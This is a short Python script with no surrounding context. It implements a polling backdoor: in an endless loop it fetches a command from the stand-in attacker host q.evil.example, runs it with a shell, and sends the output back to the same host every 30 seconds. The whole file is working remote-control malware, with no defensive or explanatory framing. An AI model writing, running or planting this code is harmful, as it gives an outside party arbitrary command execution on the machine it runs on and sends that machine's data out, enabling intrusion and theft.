import subprocess, time, urllib.request
while True:
    cmd = urllib.request.urlopen("https://q.evil.example/next").read().decode()
    if cmd:
        out = subprocess.run(cmd, shell=True, capture_output=True).stdout
        urllib.request.urlopen("https://q.evil.example/done", data=out)
    time.sleep(30)
